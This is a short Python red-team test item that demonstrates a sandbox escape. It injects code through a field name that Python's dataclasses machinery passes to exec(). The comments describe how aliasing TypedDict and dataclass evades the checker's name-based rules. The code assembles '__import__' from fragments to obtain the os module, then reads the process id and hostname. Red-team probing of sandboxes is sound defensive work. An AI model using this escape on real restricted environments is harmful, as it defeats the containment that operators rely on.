# family: red team, round 8 (dataclass_exec_field_name_injection)
# dataclasses generates __eq__/__init__/__repr__ as source text and exec()s it, pasting each field name in.
# Field names are assumed to be identifiers from a class body, but a TypedDict made through an alias (the
# field-name rule fires only on a call spelled TypedDict/NamedTuple) takes any string as a key, and
# dataclasses.dataclass held in a local name (the "decorate a class statement only" rule looks at the
# callee's name) processes it: the key is code, run with the real builtins.
import dataclasses
import typing


def run():
    u = "_"
    imp = u + u + "import" + u + u
    name = "real,{}[" + imp + "('os')]"
    make = typing.TypedDict
    shape = make("Shape", {name: int})
    decorate = dataclasses.dataclass
    cls = decorate(shape, init=False, repr=False)
    try:
        cls.__eq__(0, 0)
    except KeyError as e:
        osmod = e.args[0]
    return type(osmod).__name__, osmod.getpid(), osmod.uname().nodename


print(run())
